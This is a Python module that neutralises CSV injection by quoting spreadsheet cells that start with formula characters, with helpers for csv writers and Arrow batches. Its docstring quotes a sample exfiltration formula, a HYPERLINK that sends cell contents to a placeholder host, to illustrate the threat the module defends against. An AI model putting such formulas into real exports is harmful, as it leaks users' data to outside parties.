"""CSV cells a spreadsheet would run are written as text: OWASP's "CSV injection" defence.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets (`=HYPERLINK("http://x.example/?"&A1,"click")` sends a row away).
Such text gets a leading `'`, which the spreadsheet shows as text and hides. Plain numbers stay as
they are, "-5" and "+91 98765 43210" included: with only digits and separators they can compute
nothing. Every CSV the product writes goes through this module (Python rows through
`safe_writer`/`safe_dict_writer`, Arrow batches through `neutralise_batch`); the CSV import
strips the quote again (`restore`), so an exported file imports back unchanged.

The two patterns are plain regular expressions that Python's `re` and Arrow's RE2 read alike.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

import pyarrow as pa
import pyarrow.compute as pc

FORMULA_START = r"^[=+\-@\t\r]"
PLAIN_NUMBER = r"^[+-]?[0-9][0-9 ().,/-]*$"
_FORMULA, _NUMBER = re.compile(FORMULA_START), re.compile(PLAIN_NUMBER)


def neutralise(value: Any) -> Any:
    """The cell as a spreadsheet may open it safely (only text that would run changes)."""
    if isinstance(value, str) and _FORMULA.match(value) and not _NUMBER.match(value):
        return "'" + value
    return value


def restore(value: str) -> str:
    """A cell read back from one of our files: the quote `neutralise` added comes off."""
    if value[:1] == "'" and _FORMULA.match(value[1:]) and not _NUMBER.match(value[1:]):
        return value[1:]
    return value


class _SafeWriter:
    """csv.writer's interface, every cell neutralised."""

    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class _SafeDictWriter(csv.DictWriter):
    def writerow(self, rowdict):
        return super().writerow({key: neutralise(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts) -> None:
        for rowdict in rowdicts:
            self.writerow(rowdict)


def safe_writer(out: IO[str], **options) -> _SafeWriter:
    return _SafeWriter(csv.writer(out, **options))


def safe_dict_writer(out: IO[str], fieldnames, **options) -> csv.DictWriter:
    return _SafeDictWriter(out, fieldnames, **options)


def neutralise_batch(batch: pa.RecordBatch) -> pa.RecordBatch:
    """The same rule on every text column of an Arrow batch (vectorised: exports stay streamed)."""
    columns = []
    for column in batch.columns:
        if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
            risky = pc.and_(
                pc.match_substring_regex(column, FORMULA_START),
                pc.invert(pc.match_substring_regex(column, PLAIN_NUMBER)),
            )
            quoted = pc.binary_join_element_wise(pa.scalar("'", column.type), column, pa.scalar("", column.type))
            column = pc.if_else(pc.fill_null(risky, False), quoted, column)
        columns.append(column)
    return pa.RecordBatch.from_arrays(columns, schema=batch.schema)
